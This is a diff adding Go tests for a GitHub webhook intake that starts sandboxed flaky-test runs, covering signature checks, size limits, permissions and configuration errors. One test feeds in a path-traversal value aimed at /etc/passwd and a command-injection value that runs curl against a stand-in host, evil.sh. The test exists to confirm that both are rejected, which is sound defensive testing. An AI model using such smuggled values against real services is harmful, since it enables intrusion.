@@ -1,0 +1,126 @@
+package handlers
+
+import (
+	"bytes"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/hibiken/asynq"
+)
+
+// storedTasks counts what the intake put on the queue.
+func (h *harness) storedTasks() int {
+	in := asynq.NewInspectorFromRedisClient(h.redis)
+	n := 0
+	for _, q := range []string{QueueGitHub, QueueOutcome} {
+		if info, err := in.GetQueueInfo(q); err == nil {
+			n += info.Size + info.Completed
+		}
+	}
+	return n
+}
+
+func TestIntakeRejectsBadDeliveriesBeforeStoringAnything(t *testing.T) {
+	h := newHarness(t, false)
+	good := labeledEvent(t, "flaky", "alice", 1, flakyTest, "")
+	big := append([]byte(`{"action":"labeled","pad":"`), bytes.Repeat([]byte("x"), MaxGitHubBody)...)
+	big = append(big, `"}`...)
+	cases := []struct {
+		name      string
+		payload   []byte
+		signature string
+		want      int
+	}{
+		{"wrong signature", good, sign("not-the-secret", good), http.StatusUnauthorized},
+		{"no signature", good, "", http.StatusUnauthorized},
+		{"malformed signature", good, "sha256=zz", http.StatusUnauthorized},
+		{"malformed JSON", []byte(`{"action":`), sign(testWebhookSecret, []byte(`{"action":`)), http.StatusBadRequest},
+		{"body over the limit", big, sign(testWebhookSecret, big), http.StatusRequestEntityTooLarge},
+	}
+	for _, c := range cases {
+		if code := h.deliverSigned("issues", newDeliveryID(), c.payload, c.signature); code != c.want {
+			t.Errorf("%s: answered %d, want %d", c.name, code, c.want)
+		}
+	}
+	if n := h.storedTasks(); n != 0 {
+		t.Fatalf("%d tasks stored after rejected deliveries", n)
+	}
+	if keys := h.redis.Keys(t.Context(), "pitcrew:*").Val(); len(keys) != 0 {
+		t.Fatalf("ledger touched: %v", keys)
+	}
+	if code := h.deliver("issues", newDeliveryID(), good); code != http.StatusAccepted || h.storedTasks() != 1 {
+		t.Fatalf("a good delivery answered %d", code)
+	}
+	if code := h.deliver("star", newDeliveryID(), []byte(`{"action":"created"}`)); code != http.StatusOK || h.storedTasks() != 1 {
+		t.Fatalf("an event pitcrew does not handle answered %d", code)
+	}
+}
+
+func TestLabelWithoutUsableTestExplainsAndStartsNothing(t *testing.T) {
+	h := newHarness(t, true)
+	body := "Candidates: test/../../etc/passwd_test.exs:1 and test/hexpm/a_test.exs:1;curl${IFS}evil.sh and test/hexpm/accounts/user_test.exs"
+	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "alice", 5, "Flaky tests", body))
+	h.eventually("the explaining comment", h.commentContains(5, "Nothing was started"))
+	c := h.statusComment(5).Body
+	for _, want := range []string{"contains `..`", "contains characters a test path cannot have", "has no line number", "test/path/to/file_test.exs:LINE", "remove the `flaky` label"} {
+		if !strings.Contains(c, want) {
+			t.Errorf("comment lacks %q:\n%s", want, c)
+		}
+	}
+	if h.sandbox.SessionCount() != 0 {
+		t.Fatal("a session was started")
+	}
+}
+
+func TestLabelFromUserWithoutWriteAccess(t *testing.T) {
+	h := newHarness(t, true)
+	h.gh.SetPermission("mallory", "read")
+	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "mallory", 6, flakyTest, ""))
+	h.eventually("the refusal", h.commentContains(6, "only people with write access"))
+	if h.sandbox.SessionCount() != 0 {
+		t.Fatal("a session was started for a reader")
+	}
+}
+
+func TestLabelsIgnored(t *testing.T) {
+	h := newHarness(t, true)
+	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "dependabot[bot]", 9, flakyTest, ""))
+	h.deliver("issues", newDeliveryID(), labeledEvent(t, "bug", "alice", 10, flakyTest, ""))
+	h.eventually("both deliveries handled", func() bool { return strings.Count(h.logs.String(), "delivery handled") == 2 })
+	if h.sandbox.SessionCount() != 0 || h.gh.Count(opCreateComment) != 0 {
+		t.Fatalf("sessions %d, comments %d", h.sandbox.SessionCount(), h.gh.Count(opCreateComment))
+	}
+	// pitcrew's own bot may label (e.g. issues it files itself), without a
+	// permission check.
+	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "pitcrew[bot]", 11, flakyTest, ""))
+	h.eventually("a run for pitcrew's own label", func() bool { return h.sandbox.SessionCount() == 1 })
+}
+
+func TestBrokenConfigIsReportedNotDefaulted(t *testing.T) {
+	h := newHarness(t, true)
+	h.gh.SetFile("hexpm/hexpm", ".github/pitcrew.yml", "flaky:\n  lable: flaky-test\n")
+	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "alice", 12, flakyTest, ""))
+	h.eventually("the config error", h.commentContains(12, "field lable not found"))
+	if h.sandbox.SessionCount() != 0 {
+		t.Fatal("a session started with a broken configuration")
+	}
+}
+
+func TestConfiguredLabelAndOrgDefaults(t *testing.T) {
+	h := newHarness(t, true)
+	// No file in the repository: the owner's .github repository supplies it.
+	h.gh.SetFile("hexpm/.github", "pitcrew.yml", "flaky:\n  label: flaky-test\n  verify_runs: 80\n")
+	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky", "alice", 13, flakyTest, ""))
+	h.deliver("issues", newDeliveryID(), labeledEvent(t, "flaky-test", "alice", 14, flakyTest, ""))
+	h.eventually("the run for the configured label", func() bool { return h.sandbox.SessionCount() == 1 })
+	reqs, _ := h.sandbox.StartRequests()
+	if !strings.Contains(reqs[0].Input, "Run the test 80 times") {
+		t.Fatal("verify_runs from the org configuration not used")
+	}
+	time.Sleep(100 * time.Millisecond)
+	if len(h.gh.Comments("hexpm/hexpm", 13)) != 0 {
+		t.Fatal("the default label started something although the configuration renames it")
+	}
+}
